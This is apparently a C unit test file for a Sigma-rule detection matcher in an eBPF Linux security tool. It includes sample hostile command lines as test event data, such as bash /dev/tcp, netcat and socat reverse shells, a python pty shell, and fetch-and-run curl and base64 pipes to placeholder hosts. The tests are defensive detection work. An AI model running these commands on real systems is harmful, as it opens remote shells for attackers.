/*
 * The matcher: every modifier, wildcard and case rule, cidr, each condition
 * form, the logsource mapping, and the compiled matcher agreeing with the
 * naive per-rule evaluation on the Sigma corpus.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "match.h"
#include "sigma.h"

static struct imm_event ev;

static void ev_exec(const char *exe, const char *cmd)
{
	memset(&ev, 0, sizeof(ev));
	ev.type = EBPF_EVENT_EXEC;
	ev.outcome = IMM_OUTCOME_SUCCESS;
	ev.pid = 4242;
	ev.ppid = 1;
	ev.loginuid = 1000;
	ev.executable = exe;
	ev.filename = exe;
	ev.name = strrchr(exe, '/') ? strrchr(exe, '/') + 1 : exe;
	ev.command_line = cmd;
	ev.cwd = "/home/alice";
	ev.parent_executable = "/usr/bin/bash";
	ev.parent_command_line = "-bash";
	ev.user_name = "alice";
	ev.exe_dev = 2049;
	ev.exe_ino = 77;
}

static void ev_open(const char *exe, const char *path, uint32_t flags)
{
	ev_exec(exe, exe);
	ev.type = EBPF_EVENT_OPEN;
	ev.filename = "";
	ev.path = ev.abs_path = path;
	ev.open_flags = flags;
	ev.ret = 3;
}

static void ev_connect(const char *exe, const char *ip, uint16_t port, int family)
{
	ev_exec(exe, exe);
	ev.type = EBPF_EVENT_CONNECT;
	ev.filename = "";
	ev.family = family;
	snprintf(ev.dst_ip, sizeof(ev.dst_ip), "%s", ip);
	ev.dst_port = port;
	ev.transport = "tcp";
}

/* Load one rule (category + detection body), match ev with both matchers; returns hits or -1 if skipped. */
static int run(const char *cat, const char *det)
{
	char yaml[8192], *logbuf = NULL;
	size_t loglen = 0;
	snprintf(yaml, sizeof(yaml),
		 "title: test rule\nid: test-1\nauthor: tester\nlogsource:\n    category: %s\n    product: linux\n"
		 "detection:\n%s\n",
		 cat, det);
	struct sigma_ruleset rs;
	sigma_ruleset_init(&rs);
	FILE *log = open_memstream(&logbuf, &loglen);
	assert_int_equal(sigma_load_text(&rs, "t.yml", yaml, strlen(yaml), false, log, false), 0);
	fclose(log);
	int r = -1;
	if (rs.loaded == 1) {
		struct matcher *m = matcher_new(&rs);
		assert_non_null(m);
		const struct sigma_rule *h1[4], *h2[4];
		int a = matcher_match(m, &ev, h1, 4);
		int b = matcher_match_naive(m, &ev, h2, 4);
		assert_int_equal(a, b);
		matcher_free(m);
		r = a;
	} else {
		/* a skip always says why, with the file and id */
		assert_non_null(strstr(logbuf, "skipped t.yml test-1: "));
	}
	free(logbuf);
	sigma_ruleset_free(&rs);
	return r;
}

#define PC "process_creation"

static void test_equals_case_insensitive(void **s)
{
	(void)s;
	ev_exec("/usr/bin/whoami", "whoami");
	assert_int_equal(run(PC, "    sel:\n        Image: '/USR/bin/WHOAMI'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        Image: '/usr/bin/who'\n    condition: sel"), 0);
	assert_int_equal(run(PC, "    sel:\n        CommandLine: 'WhoAmI'\n    condition: sel"), 1);
}

static void test_contains_startswith_endswith(void **s)
{
	(void)s;
	ev_exec("/usr/bin/curl", "curl -sSL http://Evil.example/x.sh");
	assert_int_equal(run(PC, "    sel:\n        CommandLine|contains: 'evil.EXAMPLE'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|contains: 'good.example'\n    condition: sel"), 0);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|startswith: 'CURL -s'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|startswith: '-sSL'\n    condition: sel"), 0);
	assert_int_equal(run(PC, "    sel:\n        Image|endswith: '/curl'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        Image|endswith: '/cur'\n    condition: sel"), 0);
}

static void test_all_and_value_lists(void **s)
{
	(void)s;
	ev_exec("/usr/bin/curl", "curl -k -o /tmp/a https://x");
	assert_int_equal(run(PC, "    sel:\n        CommandLine|contains|all:\n            - ' -k'\n            - '/tmp/'\n"
				 "    condition: sel"),
			 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|contains|all:\n            - ' -k'\n            - '/var/'\n"
				 "    condition: sel"),
			 0);
	/* a value list is an OR */
	assert_int_equal(run(PC, "    sel:\n        CommandLine|contains:\n            - 'wget'\n            - '/tmp/'\n"
				 "    condition: sel"),
			 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|contains:\n            - 'wget'\n            - 'ftp'\n"
				 "    condition: sel"),
			 0);
}

static void test_wildcards(void **s)
{
	(void)s;
	ev_exec("/usr/bin/python3.11", "python3.11 -c import pty;pty.spawn('/bin/sh')");
	assert_int_equal(run(PC, "    sel:\n        Image: '/usr/bin/python*'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        Image: '*/python3.1?'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        Image: '*/python3.?'\n    condition: sel"), 0);
	assert_int_equal(run(PC, "    sel:\n        CommandLine: '*PTY.spawn(*sh*'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|contains: 'pty*spawn'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|startswith: 'python?.11 -c'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|endswith: \"'/bin/s?')\"\n    condition: sel"), 1);
	/* escaped wildcards are literal */
	ev_exec("/usr/bin/echo", "echo a*b");
	assert_int_equal(run(PC, "    sel:\n        CommandLine|endswith: 'a\\*b'\n    condition: sel"), 1);
	ev_exec("/usr/bin/echo", "echo axxb");
	assert_int_equal(run(PC, "    sel:\n        CommandLine|endswith: 'a\\*b'\n    condition: sel"), 0);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|endswith: 'a*b'\n    condition: sel"), 1);
}

static void test_re_is_case_sensitive(void **s)
{
	(void)s;
	ev_exec("/usr/bin/wget", "wget -O /tmp/x http://1.2.3.4/a");
	assert_int_equal(run(PC, "    sel:\n        CommandLine|re: '\\s-O\\s'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|re: '\\s-o\\s'\n    condition: sel"), 0);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|re|i: '\\s-o\\s'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|re: 'http://[0-9]{1,3}(\\.[0-9]{1,3}){3}/'\n    condition: sel"), 1);
	/* a bad regex skips the rule instead of crashing */
	assert_int_equal(run(PC, "    sel:\n        CommandLine|re: '(unclosed'\n    condition: sel"), -1);
}

static void test_cased_null_exists(void **s)
{
	(void)s;
	ev_exec("/usr/bin/Tool", "Tool -X");
	assert_int_equal(run(PC, "    sel:\n        CommandLine|cased|contains: '-X'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|cased|contains: '-x'\n    condition: sel"), 0);
	ev.parent_command_line = "";
	assert_int_equal(run(PC, "    sel:\n        ParentCommandLine: null\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        ParentCommandLine: ''\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine: null\n    condition: sel"), 0);
	assert_int_equal(run(PC, "    sel:\n        ParentCommandLine|exists: false\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|exists: true\n    condition: sel"), 1);
}

static void test_numbers_as_strings_and_process_fields(void **s)
{
	(void)s;
	ev_exec("/usr/bin/id", "id");
	assert_int_equal(run(PC, "    sel:\n        ProcessId: 4242\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        ProcessId|startswith: 42\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        ParentProcessId: 1\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        LogonId: 1000\n        User: ALICE\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        LogonId: 0\n    condition: sel"), 0);
	assert_int_equal(run(PC, "    sel:\n        CurrentDirectory|startswith: '/home/'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        ParentImage|endswith: '/bash'\n        ParentCommandLine: '-bash'\n"
				 "    condition: sel"),
			 1);
}

static void test_image_as_execd(void **s)
{
	(void)s;
	/* a symlink: exec'd as /usr/bin/python3, resolved to python3.11 */
	ev_exec("/usr/bin/python3.11", "python3 x.py");
	ev.filename = "/usr/bin/python3";
	assert_int_equal(run(PC, "    sel:\n        Image|endswith: '/python3'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        Image|endswith: '/python3.11'\n    condition: sel"), 1);
	assert_int_equal(run(PC, "    sel:\n        Image|endswith: '/python2'\n    condition: sel"), 0);
	/* not filter: true only when neither image form matches */
	assert_int_equal(run(PC, "    sel:\n        CommandLine|contains: 'x.py'\n    f:\n        Image|endswith: '/python3'\n"
				 "    condition: sel and not f"),
			 0);
}

static void test_conditions(void **s)
{
	(void)s;
	ev_exec("/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444");
	const char *sels = "    sel_a:\n        Image|endswith: '/nc'\n"
			   "    sel_b:\n        CommandLine|contains: ' -e '\n"
			   "    sel_c:\n        CommandLine|contains: 'nomatch'\n"
			   "    filter_x:\n        User: root\n";
	char det[2048];
	struct {
		const char *cond;
		int want;
	} t[] = {
		{ "sel_a and sel_b", 1 },
		{ "sel_a and sel_c", 0 },
		{ "sel_a or sel_c", 1 },
		{ "sel_c or sel_c", 0 },
		{ "not sel_c", 1 },
		{ "not sel_a", 0 },
		{ "sel_a and not sel_c", 1 },
		{ "(sel_c or sel_b) and sel_a", 1 },
		{ "sel_c or sel_b and sel_a", 1 },      /* and binds tighter */
		{ "(sel_c or sel_a) and sel_c", 0 },
		{ "not (sel_c or sel_a)", 0 },
		{ "1 of sel_*", 1 },
		{ "all of sel_*", 0 },
		{ "all of sel_a*", 1 },
		{ "1 of them", 1 },
		{ "all of them", 0 },
		{ "all of sel_* or sel_b", 1 },
		{ "sel_a and not 1 of filter_*", 1 },
		{ "SEL_A", -1 },                         /* unknown selection: skipped */
		{ "sel_a and", -1 },
		{ "(sel_a", -1 },
		{ "sel_a | count() > 5", -1 },           /* aggregation */
		{ "1 of nothing_*", -1 },
	};
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		snprintf(det, sizeof(det), "%s    condition: %s", sels, t[i].cond);
		int got = run(PC, det);
		if (got != t[i].want)
			fail_msg("condition '%s': got %d, want %d", t[i].cond, got, t[i].want);
	}
	/* a list of conditions is an OR */
	snprintf(det, sizeof(det), "%s    condition:\n        - sel_c\n        - sel_b", sels);
	assert_int_equal(run(PC, det), 1);
}

static void test_list_of_maps(void **s)
{
	(void)s;
	ev_exec("/usr/bin/socat", "socat tcp:1.2.3.4:80 exec:/bin/sh");
	const char *det = "    sel:\n        - Image|endswith: '/nc'\n          CommandLine|contains: ' -e '\n"
			  "        - Image|endswith: '/socat'\n          CommandLine|contains: 'exec:'\n    condition: sel";
	assert_int_equal(run(PC, det), 1);
	ev_exec("/usr/bin/nc", "socat exec:");
	assert_int_equal(run(PC, det), 0);
}

static void test_cidr_and_network_fields(void **s)
{
	(void)s;
	const char *NC = "network_connection";
	ev_connect("/usr/bin/bash", "10.1.2.3", 4444, AF_INET);
	assert_int_equal(run(NC, "    sel:\n        DestinationIp|cidr: '10.0.0.0/8'\n    condition: sel"), 1);
	assert_int_equal(run(NC, "    sel:\n        DestinationIp|cidr:\n            - '192.168.0.0/16'\n"
				 "            - '172.16.0.0/12'\n    condition: sel"),
			 0);
	assert_int_equal(run(NC, "    sel:\n        DestinationIp|cidr: '10.1.2.3/32'\n    condition: sel"), 1);
	assert_int_equal(run(NC, "    sel:\n        DestinationIp|cidr: '10.1.2.4/32'\n    condition: sel"), 0);
	assert_int_equal(run(NC, "    sel:\n        DestinationPort: 4444\n        Initiated: 'true'\n"
				 "        DestinationIsIpv6: 'false'\n    condition: sel"),
			 1);
	assert_int_equal(run(NC, "    sel:\n        DestinationPort: 444\n    condition: sel"), 0);
	ev_connect("/usr/bin/python3", "2001:db8::1", 443, AF_INET6);
	assert_int_equal(run(NC, "    sel:\n        DestinationIp|cidr: '2001:db8::/32'\n        DestinationIsIpv6: 'true'\n"
				 "    condition: sel"),
			 1);
	assert_int_equal(run(NC, "    sel:\n        DestinationIp|cidr: '10.0.0.0/8'\n    condition: sel"), 0);
	assert_int_equal(run(NC, "    sel:\n        DestinationIp|cidr: 'not-a-net'\n    condition: sel"), -1);
	/* unix sockets are not network_connection */
	ev_connect("/usr/bin/bash", "", 0, AF_UNIX);
	assert_int_equal(run(NC, "    sel:\n        Image|endswith: '/bash'\n    condition: sel"), 0);
}

static void test_logsources(void **s)
{
	(void)s;
	const char *tf = "    sel:\n        TargetFilename: '/etc/ld.so.preload'\n    condition: sel";
	ev_open("/usr/bin/cat", "/etc/ld.so.preload", O_RDONLY);
	assert_int_equal(run("file_access", tf), 1);
	assert_int_equal(run("file_event", tf), 0);
	ev_open("/usr/bin/tee", "/etc/ld.so.preload", O_WRONLY | O_CREAT | O_TRUNC);
	assert_int_equal(run("file_event", tf), 1);
	assert_int_equal(run("file_access", tf), 1);
	ev.open_flags = O_RDWR;
	assert_int_equal(run("file_event", tf), 1);
	ev.outcome = IMM_OUTCOME_FAILURE;
	ev.ret = -13;
	assert_int_equal(run("file_event", tf), 0);
	assert_int_equal(run("file_access", tf), 1);
	ev.outcome = IMM_OUTCOME_DENIED;
	assert_int_equal(run("file_access", tf), 0);
	assert_int_equal(run(PC, tf), -1); /* TargetFilename is not a process field */
	/* failed execs are not process creations */
	ev_exec("/tmp/x", "x");
	ev.outcome = IMM_OUTCOME_FAILURE;
	assert_int_equal(run(PC, "    sel:\n        Image|startswith: '/tmp/'\n    condition: sel"), 0);
	/* other events never feed Sigma */
	ev_exec("/tmp/x", "x");
	ev.type = EBPF_EVENT_FORK;
	assert_int_equal(match_event_logsources(&ev), 0u);
}

static void test_skips(void **s)
{
	(void)s;
	ev_exec("/usr/bin/x", "x");
	assert_int_equal(run(PC, "    keywords:\n        - 'evil'\n    condition: keywords"), -1);
	assert_int_equal(run(PC, "    sel:\n        Hashes|contains: 'abc'\n    condition: sel"), -1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|base64offset|contains: 'abc'\n    condition: sel"), -1);
	assert_int_equal(run(PC, "    sel:\n        CommandLine|windash: '-x'\n    condition: sel"), -1);
	assert_int_equal(run(PC, "    sel:\n        Image|endswith: '\\cmd.exe'\n    condition: sel"), -1);
	assert_int_equal(run(PC, "    sel:\n        DestinationIp: '1.2.3.4'\n    condition: sel"), -1);
	assert_int_equal(run(PC, "    sel:\n        Image: x\n    timeframe: 5m\n    condition: sel"), -1);
	assert_int_equal(run("dns_query", "    sel:\n        Image: x\n    condition: sel"), -1);
	assert_int_equal(run(PC, "    sel:\n        Image: x"), -1); /* no condition */
}

static void count_hit(void *ctx, int id)
{
	((int *)ctx)[id]++;
}

static void test_aho_corasick(void **s)
{
	(void)s;
	struct ac *a = ac_new();
	assert_int_equal(ac_add(a, "he", 2), 0);
	assert_int_equal(ac_add(a, "SHE", 3), 1);
	assert_int_equal(ac_add(a, "his", 3), 2);
	assert_int_equal(ac_add(a, "hers", 4), 3);
	assert_int_equal(ac_build(a), 0);
	int seen[4] = { 0 };
	ac_scan(a, "uSHErs his he", 13, count_hit, seen);
	assert_int_equal(seen[0], 2); /* inside "SHErs" (shared by she and hers), and alone */
	assert_int_equal(seen[1], 1);
	assert_int_equal(seen[2], 1);
	assert_int_equal(seen[3], 1);
	ac_free(a);
}

/* Every corpus rule through both matchers on events built from the rules' own literals. */
static void test_compiled_equals_naive_on_corpus(void **s)
{
	(void)s;
	const char *root = getenv("IMMUNE_SIGMA") ? getenv("IMMUNE_SIGMA") : "../shared/sigma";
	char p1[512];
	struct sigma_ruleset rs;
	sigma_ruleset_init(&rs);
	FILE *devnull = fopen("/dev/null", "w");
	snprintf(p1, sizeof(p1), "%s/rules/linux", root);
	if (sigma_load_path(&rs, p1, devnull, false) && rs.loaded == 0)
		skip();
	sigma_load_builtin(&rs, devnull, false);
	fclose(devnull);
	struct matcher *m = matcher_new(&rs);
	assert_non_null(m);
	static const char *imgs[] = { "/usr/bin/curl", "/usr/bin/bash", "/tmp/x", "/usr/bin/python3", "/usr/sbin/nginx",
				      "/usr/bin/base64", "/usr/bin/nc" };
	static const char *cmds[] = { "curl -k https://1.2.3.4/x.tar --no-check-certificate -o /tmp/x.tar",
				      "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "base64 -d /tmp/p | sh",
				      "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "nc -e /bin/sh 1.2.3.4 4444",
				      "ls -la", "chmod +x /tmp/x" };
	unsigned total = 0;
	for (size_t i = 0; i < sizeof(imgs) / sizeof(imgs[0]); i++)
		for (size_t j = 0; j < sizeof(cmds) / sizeof(cmds[0]); j++) {
			const struct sigma_rule *a[64], *b[64];
			ev_exec(imgs[i], cmds[j]);
			int na = matcher_match(m, &ev, a, 64), nb = matcher_match_naive(m, &ev, b, 64);
			assert_int_equal(na, nb);
			for (int k = 0; k < na && k < 64; k++)
				assert_ptr_equal(a[k], b[k]);
			total += na;
		}
	assert_true(total > 10); /* the mix does trigger rules */
	struct matcher_stats st;
	matcher_get_stats(m, &st);
	assert_true(st.literals > 100);
	matcher_free(m);
	sigma_ruleset_free(&rs);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_equals_case_insensitive),
		cmocka_unit_test(test_contains_startswith_endswith),
		cmocka_unit_test(test_all_and_value_lists),
		cmocka_unit_test(test_wildcards),
		cmocka_unit_test(test_re_is_case_sensitive),
		cmocka_unit_test(test_cased_null_exists),
		cmocka_unit_test(test_numbers_as_strings_and_process_fields),
		cmocka_unit_test(test_image_as_execd),
		cmocka_unit_test(test_conditions),
		cmocka_unit_test(test_list_of_maps),
		cmocka_unit_test(test_cidr_and_network_fields),
		cmocka_unit_test(test_logsources),
		cmocka_unit_test(test_skips),
		cmocka_unit_test(test_aho_corasick),
		cmocka_unit_test(test_compiled_equals_naive_on_corpus),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
